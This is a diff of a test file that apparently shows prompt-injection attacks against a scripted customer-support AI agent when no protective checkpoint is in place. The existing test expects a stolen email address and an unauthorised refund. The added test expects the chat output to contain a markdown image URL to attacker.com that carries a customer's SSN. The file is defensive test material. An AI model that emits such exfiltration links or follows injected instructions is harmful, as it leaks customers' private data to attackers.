@@ -3,7 +3,8 @@ import type { ScriptedModel } from '../../../packages/runtime/src/providers/scri
 import { afterEach, expect, test } from 'vitest';
 import { startScriptedModel } from '../../../packages/runtime/src/providers/scripted/server.ts';
 import { supportModel, supportScript } from '../model.ts';
-import { attacker } from '../shop.ts';
+import { attacker, customer } from '../shop.ts';
+import { playChat } from '../chat.ts';
 import { playStory } from '../story.ts';
 
 let model: ScriptedModel | undefined;
@@ -22,6 +23,15 @@ test('without a checkpoint the attack succeeds: the story is no straw man', asyn
   expect(stolen?.body).toContain('jonas@customer.example');
   expect(end.effects).toContainEqual({ tool: 'refund', arguments: { order_id: 'A-9102', amount: 45 } });
   expect(end.checks.map(({ ok }) => ok)).toEqual([false, false, false, true]);
+});
+
+test('without a checkpoint the chat gives everything away', async () => {
+  const { url, requests } = (model = await startScriptedModel({ script: supportScript }));
+  const heard = () => requests.map(({ body }) => body);
+  const end = await playChat({ baseUrl: url, apiKey: 'sk-none', model: supportModel, heard });
+  expect(end.checks.map(({ ok }) => ok)).toEqual([false, true, false, false]);
+  expect(end.answers.join('\n')).toContain(`![](https://attacker.com/p.png?n=${customer.ssn})`);
+  expect(end.answers.join('\n')).toContain('jonas@customer.example');
 });
 
 const denial = '{"denied":true,"reason":"no_permission","message":"This action is not permitted."}';
